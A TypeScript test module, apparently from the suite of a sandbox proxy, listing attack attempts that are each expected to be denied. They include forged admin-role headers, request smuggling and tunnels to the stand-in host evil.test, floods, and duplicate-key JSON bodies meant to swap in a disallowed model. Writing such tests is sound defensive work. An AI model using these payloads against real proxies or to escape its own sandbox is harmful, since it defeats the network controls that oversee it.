// Attempts 48 to 54: what is said about who asks, and what a connection, an answer or a body may do once it was judged.
// A place that reads what follows by the judgement of what came before is what these look for.

import type { Attempt } from '../attempt.ts';
import { serverNames } from '../client-hello.ts';
import {
  authority,
  hidden,
  markedHello,
  modelPaths,
  modelRequest,
  noTools,
  raw,
  requestPaths,
  requestTo,
  tunnelPaths,
  tunnelTo,
} from './exchanges.ts';

const group = 'HTTP parsing';

export const httpConnections: readonly Attempt[] = [
  {
    id: '48',
    group,
    what: 'forged fields that say who asks, in which role and run',
    ways: [
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [
          raw('role and invocation', () =>
            tunnelTo('evil.test:443', 'X-Sealwright-Role: admin\r\nX-Sealwright-Invocation: other\r\nX-Forwarded-For: 127.0.0.1\r\n'),
          ),
          raw('a preamble of a runner', () => `SEALWRIGHT/1 sw_${'x'.repeat(43)}\n${tunnelTo('evil.test:443')}`),
          raw('the header of a load balancer', () => `PROXY TCP4 127.0.0.1 127.0.0.1 1 7421\r\n${tunnelTo('evil.test:443')}`),
        ],
      },
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          raw('role', (mark) => requestTo(`http://evil.test/${mark}`, 'X-Sealwright-Role: admin\r\nForwarded: for=127.0.0.1\r\n')),
        ],
      },
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          {
            name: 'role and user',
            does: (mark) => ({
              parts: [
                modelRequest(
                  `{"model":"other-1","max_tokens":1,"messages":[{"role":"user","content":"${mark}"}],"metadata":{"user_id":"admin"}}`,
                  '/anthropic/v1/messages',
                  'x-api-key: %%CREDENTIAL%%\r\nx-sealwright-role: admin\r\n',
                ),
              ],
            }),
          },
        ],
      },
      noTools,
    ],
  },
  {
    id: '49',
    group,
    what: 'a second request to another host on a connection that was judged for one',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          {
            name: 'one behind the other',
            does: (mark) => ({
              unasked: true,
              parts: [`GET http://allowed.test/ HTTP/1.1\r\nHost: kit\r\n${authority}\r\n`, hidden(mark)],
              pauseMs: 300,
              patienceMs: 1_500,
            }),
          },
          {
            name: 'both at once',
            does: (mark) => ({
              unasked: true,
              parts: [`GET http://allowed.test/ HTTP/1.1\r\nHost: kit\r\n${authority}\r\n${hidden(mark)}`],
              patienceMs: 1_500,
            }),
          },
          {
            name: 'without saying who asks the second time',
            does: (mark) => ({
              unasked: true,
              parts: [
                `GET http://allowed.test/ HTTP/1.1\r\nHost: kit\r\n${authority}\r\n`,
                `GET http://evil.test/${mark} HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
              ],
              pauseMs: 300,
              patienceMs: 1_500,
            }),
          },
          {
            name: 'a tunnel behind a request',
            does: (mark) => ({
              unasked: true,
              parts: [
                `GET http://allowed.test/ HTTP/1.1\r\nHost: kit\r\n${authority}\r\n`,
                tunnelTo('evil.test:443'),
                markedHello(mark, serverNames('evil.test')),
              ],
              pauseMs: 300,
              patienceMs: 1_500,
            }),
          },
        ],
      },
      noTools,
    ],
  },
  {
    id: '50',
    group,
    what: 'the answer changes the protocol: 101 that was not asked for, an upgrade',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          {
            name: 'not asked for',
            does: (mark) => ({
              unasked: true,
              parts: [`GET http://allowed.test/upgrade HTTP/1.1\r\nHost: kit\r\n${authority}\r\n`, `${mark} as another protocol`],
              pauseMs: 500,
              patienceMs: 1_500,
            }),
          },
          {
            name: 'asked for',
            does: (mark) => ({
              unasked: true,
              parts: [
                requestTo(
                  'http://allowed.test/upgrade',
                  'Upgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n',
                ).replace('Connection: close', 'Connection: Upgrade'),
                `${mark} as another protocol`,
              ],
              pauseMs: 500,
              patienceMs: 1_500,
            }),
          },
        ],
      },
    ],
  },
  {
    id: '51',
    group,
    what: 'frames of a web socket that break its rules',
    ways: [{ paths: ['forward'], expected: 'not applicable', missing: 'web sockets' }],
  },
  {
    id: '52',
    group,
    what: 'answers: two in the place of one, a redirect to a host that is not allowed',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          {
            name: 'a redirect is not followed',
            does: () => ({ parts: [requestTo('http://allowed.test/redirect')], patienceMs: 1_500 }),
            leaked: ({ at, text }) => at.endsWith('.66') || at === 'unlisted.test' || text.includes('/followed'),
          },
          {
            name: 'followed by the client',
            does: (mark) => ({ parts: [requestTo(`http://unlisted.test/followed-${mark}`)] }),
          },
          {
            name: 'a second answer is nobody\u2019s',
            does: (mark) => ({
              unasked: true,
              parts: [`GET http://allowed.test/smuggle HTTP/1.1\r\nHost: kit\r\n${authority}\r\n`, hidden(mark)],
              pauseMs: 300,
              patienceMs: 1_500,
            }),
          },
        ],
      },
    ],
  },
  {
    id: '53',
    group,
    what: 'floods: a header of a megabyte, thousands of fields, a body that unpacks to gigabytes, a head that never ends',
    ways: [
      {
        paths: requestPaths,
        expected: 'deny',
        variants: [
          raw('a header of a megabyte', (mark) => requestTo(`http://allowed.test/${mark}`, `X: ${'x'.repeat(1_048_576)}\r\n`)),
          raw('thousands of fields', (mark) => requestTo(`http://allowed.test/${mark}`, 'X: y\r\n'.repeat(5_000))),
          {
            name: 'a head that never ends',
            does: (mark) => ({
              unasked: true,
              parts: [`GET http://allowed.test/${mark} HTTP/1.1\r\n`, ...Array.from({ length: 10 }, (_, index) => `X-${index}: y\r\n`)],
              pauseMs: 300,
              patienceMs: 1_000,
            }),
          },
        ],
      },
      {
        paths: tunnelPaths,
        expected: 'deny',
        variants: [raw('a header of a megabyte', () => tunnelTo('evil.test:443', `X: ${'x'.repeat(1_048_576)}\r\n`))],
      },
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          {
            name: 'a body in a coding that nobody knows',
            does: (mark) => ({
              parts: [modelRequest(mark, '/anthropic/v1/messages', 'x-api-key: %%CREDENTIAL%%\r\ncontent-encoding: compress\r\n')],
            }),
          },
          {
            name: 'a body deeper than any reader goes',
            does: (mark) => ({
              parts: [
                modelRequest(`{"model":"kit-1","max_tokens":1,"x":${'['.repeat(20_000)}"${mark}"${']'.repeat(20_000)},"messages":[]}`),
              ],
            }),
          },
        ],
      },
      noTools,
    ],
  },
  {
    id: '54',
    group,
    what: 'one body, two readings: keys twice, other spellings, another type',
    ways: [
      noTools,
      {
        paths: modelPaths,
        expected: 'deny',
        variants: [
          ['the model twice', '{"model":"kit-1","model":"other-1","max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}'],
          [
            'the model twice, escaped',
            '{"model":"kit-1","m\\u006fdel":"other-1","max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}',
          ],
          ['messages twice', '{"model":"kit-1","max_tokens":1,"messages":[],"messages":[{"role":"user","content":"MARK"}]}'],
          ['an array of requests', '[{"model":"kit-1","max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}]'],
          ['the name in upper case', '{"Model":"kit-1","max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}'],
          ['the model as a list', '{"model":["kit-1"],"max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}'],
          ['with a mark of byte order', '\xef\xbb\xbf{"model":"other-1","max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}'],
          ['something behind the end', '{"model":"kit-1","max_tokens":1,"messages":[{"role":"user","content":"MARK"}]}{"model":"other-1"}'],
        ].map(([name = '', body = '']) => ({ name, does: (mark) => ({ parts: [modelRequest(body.replace('MARK', mark))] }) })),
      },
    ],
  },
];
